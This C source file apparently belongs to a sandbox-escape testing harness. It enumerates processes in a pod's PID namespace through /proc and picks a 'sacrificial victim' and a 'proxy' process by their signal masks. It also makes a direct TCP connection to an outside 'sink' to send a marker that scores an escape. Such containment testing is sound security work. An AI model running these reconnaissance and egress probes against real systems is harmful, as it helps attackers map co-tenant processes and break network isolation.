/* pod_procs.c - see pod_procs.h. */
#include "pod_procs.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* One /proc/N/status, parsed. */
struct status {
	pid_t proc_pid, proc_ppid;
	pid_t nspid[8];
	int levels;
	uid_t uid;
	uint64_t sigblk, sigign;
	char name[17];
};

static int read_status(const char *dir, struct status *s)
{
	char path[64], buf[4096];
	int fd;
	ssize_t n;
	char *line, *save = NULL;

	snprintf(path, sizeof(path), "/proc/%s/status", dir);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	memset(s, 0, sizeof(*s));
	for (line = strtok_r(buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		if (strncmp(line, "Name:\t", 6) == 0) {
			snprintf(s->name, sizeof(s->name), "%s", line + 6);
		} else if (strncmp(line, "Pid:\t", 5) == 0) {
			s->proc_pid = (pid_t)strtol(line + 5, NULL, 10);
		} else if (strncmp(line, "PPid:\t", 6) == 0) {
			s->proc_ppid = (pid_t)strtol(line + 6, NULL, 10);
		} else if (strncmp(line, "Uid:\t", 5) == 0) {
			s->uid = (uid_t)strtoul(line + 5, NULL, 10);
		} else if (strncmp(line, "SigBlk:\t", 8) == 0) {
			s->sigblk = strtoull(line + 8, NULL, 16);
		} else if (strncmp(line, "SigIgn:\t", 8) == 0) {
			s->sigign = strtoull(line + 8, NULL, 16);
		} else if (strncmp(line, "NSpid:", 6) == 0) {
			char *p = line + 6, *end;
			while (s->levels < 8) {
				long v = strtol(p, &end, 10);
				if (end == p)
					break;
				s->nspid[s->levels++] = (pid_t)v;
				p = end;
			}
		}
	}
	return s->levels > 0 ? 0 : -1;
}

static struct status *find_proc(struct status *all, size_t n, pid_t proc_pid)
{
	for (size_t i = 0; i < n; i++)
		if (all[i].proc_pid == proc_pid)
			return &all[i];
	return NULL;
}

/* Our namespace's init (nspid 1 at our level) above s, under /proc; 0 if the
 * chain leaves the processes at our level first. */
static pid_t init_of(struct status *all, size_t n, struct status *s)
{
	for (int hops = 0; s && hops < 64; hops++) {
		if (s->nspid[s->levels - 1] == 1)
			return s->proc_pid;
		s = find_proc(all, n, s->proc_ppid);
	}
	return 0;
}

int pod_scan(struct attack_log *log, struct pod_view *v)
{
	struct status self, *all = NULL;
	size_t n = 0, cap = 0, seen = 0;
	DIR *d;
	struct dirent *de;
	int err;

	memset(v, 0, sizeof(*v));
	v->self = getpid();
	if (read_status("self", &self) < 0) {
		err = errno;
		attack_step(log, "open", -1, err, "/proc/self/status");
		return -1;
	}
	v->host_proc = self.levels > 1;
	d = opendir("/proc");
	err = errno;
	attack_step(log, "opendir", d ? 0 : -1, err, "/proc: look for the pod's processes");
	if (!d)
		return -1;
	while ((de = readdir(d))) {
		struct status s;
		if (!isdigit((unsigned char)de->d_name[0]))
			continue;
		seen++;
		if (read_status(de->d_name, &s) < 0 || s.levels != self.levels)
			continue;
		if (n == cap) {
			struct status *na = realloc(all, (cap ? cap * 2 : 256) * sizeof(*all));
			if (!na)
				break;
			all = na;
			cap = cap ? cap * 2 : 256;
		}
		all[n++] = s;
	}
	closedir(d);
	{
		struct status *me = find_proc(all, n, self.proc_pid);
		v->init_proc = me ? init_of(all, n, me) : 0;
	}
	for (size_t i = 0; i < n && v->n < POD_MAX; i++) {
		struct status *s = &all[i];
		struct status *parent = find_proc(all, n, s->proc_ppid);
		struct pod_proc *p;
		if (!v->init_proc || init_of(all, n, s) != v->init_proc)
			continue;
		p = &v->p[v->n++];
		p->pid = s->nspid[s->levels - 1];
		p->proc_pid = s->proc_pid;
		p->ppid = parent && parent->nspid[parent->levels - 1] != 0 && p->pid != 1
			      ? parent->nspid[parent->levels - 1]
			      : 0;
		p->uid = s->uid;
		p->sigblk = s->sigblk;
		p->sigign = s->sigign;
		memcpy(p->name, s->name, sizeof(p->name));
	}
	free(all);
	attack_note(log,
		    "/proc: %zu processes, %zu in our PID namespace (NSpid levels %d: %s); "
		    "our init is /proc/%d",
		    seen, v->n, self.levels,
		    v->host_proc ? "/proc is an outer namespace's, the numbers differ"
				 : "/proc is our own namespace's",
		    (int)v->init_proc);
	for (size_t i = 0; i < v->n; i++) {
		const struct pod_proc *p = &v->p[i];
		attack_note(log,
			    "  pid %d (/proc/%d) ppid %d uid %u %s SigBlk %016llx SigIgn %016llx%s",
			    (int)p->pid, (int)p->proc_pid, (int)p->ppid, (unsigned)p->uid, p->name,
			    (unsigned long long)p->sigblk, (unsigned long long)p->sigign,
			    p->pid == v->self ? " (us)" : "");
	}
	return v->n ? 0 : -1;
}

const struct pod_proc *pod_get(const struct pod_view *v, pid_t pid)
{
	for (size_t i = 0; i < v->n; i++)
		if (v->p[i].pid == pid)
			return &v->p[i];
	return NULL;
}

int pod_path(const struct pod_view *v, pid_t pid, const char *rel, char *buf, size_t len)
{
	const struct pod_proc *p = pod_get(v, pid);
	if (!p)
		return -1;
	snprintf(buf, len, "/proc/%d/%s", (int)p->proc_pid, rel);
	return 0;
}

#define BIT(sig) (1ull << ((sig)-1))

static bool blocks_everything(const struct pod_proc *p)
{
	const uint64_t m = BIT(SIGHUP) | BIT(SIGINT) | BIT(SIGQUIT) | BIT(SIGUSR1) | BIT(SIGUSR2) |
			   BIT(SIGTERM) | BIT(SIGCHLD) | BIT(SIGIO);
	return (p->sigblk & m) == m;
}

static bool sibling(const struct attack_env *env, const struct pod_view *v,
		    const struct pod_proc *p)
{
	return p->ppid == env->supervisor_pid && p->pid != v->self && p->pid != env->victim_pid;
}

const struct pod_proc *pod_find_sacrificial(const struct attack_env *env, const struct pod_view *v,
					    struct attack_log *log)
{
	for (size_t i = 0; i < v->n; i++) {
		const struct pod_proc *p = &v->p[i];
		if (sibling(env, v, p) && blocks_everything(p)) {
			attack_note(
			    log,
			    "sacrificial victim: pid %d, a child of the supervisor (%d), not "
			    "us, not PARITY_VICTIM_PID, blocking every catchable signal",
			    (int)p->pid, (int)env->supervisor_pid);
			return p;
		}
	}
	attack_note(log,
		    "no child of the supervisor (%d) blocks every signal: no sacrificial victim",
		    (int)env->supervisor_pid);
	return NULL;
}

const struct pod_proc *pod_find_proxy(const struct attack_env *env, const struct pod_view *v,
				      struct attack_log *log)
{
	for (size_t i = 0; i < v->n; i++) {
		const struct pod_proc *p = &v->p[i];
		if (sibling(env, v, p) && !blocks_everything(p) && (p->sigign & BIT(SIGPIPE))) {
			attack_note(log,
				    "proxy: pid %d, a child of the supervisor (%d) that ignores "
				    "SIGPIPE and blocks nothing (a network daemon)",
				    (int)p->pid, (int)env->supervisor_pid);
			return p;
		}
	}
	attack_note(log, "no child of the supervisor (%d) looks like the proxy",
		    (int)env->supervisor_pid);
	return NULL;
}

int pod_marker_tcp(const struct attack_env *env, struct attack_log *log, const char *host,
		   uint16_t port, const char *label)
{
	struct sockaddr_storage ss;
	socklen_t len = attack_sockaddr(host, port, &ss);
	int fd, r, err;
	ssize_t n;

	fd = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	err = errno;
	attack_step(log, "socket", fd, err, "%s, SOCK_STREAM, 0",
		    ss.ss_family == AF_INET6 ? "AF_INET6" : "AF_INET");
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = attack_connect_timeout(fd, (struct sockaddr *)&ss, len, 2000);
	err = errno;
	attack_step(log, "connect", r, err, "%s port %u (the sink, directly)", host, port);
	if (r < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	n = attack_send_marker(env, fd, label);
	err = errno;
	attack_step(log, "send", n, err, "marker");
	close(fd);
	return n > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}
